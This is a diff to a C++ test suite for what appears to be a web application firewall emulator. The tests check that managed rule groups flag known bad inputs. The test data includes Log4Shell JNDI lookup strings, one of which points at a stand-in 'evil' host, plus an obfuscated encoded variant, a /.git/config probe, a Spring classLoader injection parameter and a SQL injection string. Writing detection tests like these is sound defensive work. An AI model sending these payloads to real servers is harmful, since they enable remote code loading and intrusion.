@@ -5,6 +5,7 @@
 
 #include "base/context.hpp"
 #include "edge/waf/core_filter.hpp"
+#include "edge/waf/group_world.hpp"
 #include "edge/waf/matcher.hpp"
 
 using namespace wt;
@@ -26,7 +27,7 @@ struct World {
         return make_matcher(statement, MatcherParts{context, config, core});
     }
     [[nodiscard]] bool ask(Matcher& matcher, const http::Request& request, std::vector<std::string> labels = {}) {
-        Evaluation evaluation(request, clock.now(), config.body_limit.count, texts);
+        Evaluation evaluation(request, clock.now(), config.body_limits.of(Protected::distribution).count, texts);
         evaluation.labels = std::move(labels);
         return matcher.matches(evaluation);
     }
@@ -118,7 +119,7 @@ TEST_CASE("of a large body the visible part is inspected, or the size alone deci
     CHECK_FALSE(world.matches(bytes(body, "needle"), asked));
     body.oversize = Oversize::match;
     CHECK(world.matches(bytes(body, "needle"), asked));
-    world.config.body_limit = Bytes{64 * 1024};
+    world.config.body_limits.of(Protected::distribution) = Bytes{64 * 1024};
     CHECK(world.matches(bytes(Field::of(Kind::body), "needle"), asked));
 }
 
@@ -244,21 +245,48 @@ TEST_CASE("a rule's units are those that AWS WAF publishes") {
 }
 
 TEST_CASE("known bad inputs are found however they are written") {
-    World world;
-    ManagedGroup group;
-    group.name = ManagedGroup::Name::known_bad_inputs;
-    const auto bad = world.matcher(group);
+    test::Groups bad({ManagedGroup::Name::known_bad_inputs});
     http::Request log4j = request();
-    log4j.headers.add("User-Agent", "${jndi:ldap://evil/a}");
-    CHECK(world.ask(*bad, log4j));
-    CHECK(world.ask(*bad, request("/", "q=%24%7Bj%24%7Blower:n%7Ddi:rmi")));
-    CHECK(world.ask(*bad, request("/.git/config")));
-    CHECK(world.ask(*bad, request("/", "class.module.classLoader.x=1")));
-    CHECK_FALSE(world.ask(*bad, request("/items/1", "q=java")));
-    group.counted = {"ExploitablePaths_URIPATH"};
-    CHECK_FALSE(world.matches(group, request("/.git/config")));
-    ManagedGroup reputation;
-    reputation.name = ManagedGroup::Name::ip_reputation;
-    reputation.addresses = {"192.0.2.0/24"};
-    CHECK(world.matches(reputation, request()));
+    log4j.headers.add("User-Agent", "${jndi:ldap://example.com/a}");
+    CHECK(bad.rule_for(log4j) == "Log4JRCE_HEADER");
+    CHECK(bad.rule_for(request("/", "q=%24%7Bj%24%7Blower:n%7Ddi:rmi")) == "Log4JRCE_QUERYSTRING");
+    CHECK(bad.rule_for(request("/.git/config")) == "ExploitablePaths_URIPATH");
+    CHECK(bad.rule_for(request("/", "class.module.classLoader.x=1")) == "JavaDeserializationRCE_QUERYSTRING");
+    CHECK(bad.rule_for(request("/items/1", "q=java")) == "");
+}
+
+TEST_CASE("a query string may be changed before it is split") {
+    World world;
+    ByteMatch match = bytes(Field::of(Kind::query_argument, "a"), "1,3", ByteMatch::Position::exactly);
+    match.inspection.before_split = {Transformation::replace_semicolons_with_ampersands,
+                                     Transformation::combine_duplicate_query_args_by_comma};
+    CHECK(world.matches(match, request("/", "a=1;b=2;a=3")));
+    match.inspection.before_split.clear();
+    CHECK_FALSE(world.matches(match, request("/", "a=1;b=2;a=3")));
+    CHECK(capacity(match) == 2);
+}
+
+TEST_CASE("what a request does not have here matches as the statement says; headers have an order") {
+    World world;
+    ByteMatch fingerprint = bytes(Field::of(Kind::absent), "x");
+    CHECK_FALSE(world.matches(fingerprint, request()));
+    fingerprint.inspection.field.oversize = Oversize::match;
+    CHECK(world.matches(fingerprint, request()));
+    http::Request asked = request();
+    asked.headers.add("Host", "x");
+    asked.headers.add("User-Agent", "y");
+    CHECK(world.matches(bytes(Field::of(Kind::header_order), "host:user-agent", ByteMatch::Position::exactly), asked));
+    AsnMatch network{{64496}};
+    CHECK_FALSE(world.matches(network, request()));
+}
+
+TEST_CASE("SQL injection has two levels, and the lower is no higher") {
+    World world;
+    SqliMatch match;
+    match.inspection = Inspection{Field::of(Kind::query), {Transformation::url_decode}, {}};
+    CHECK(capacity(match) == 30);
+    CHECK(world.matches(match, request("/", "1%27%20OR%20%271%27=%271")));
+    match.sensitivity = SqliMatch::Sensitivity::high;
+    CHECK(capacity(match) == 40);
+    CHECK(world.matches(match, request("/", "1%27%20OR%20%271%27=%271")));
 }
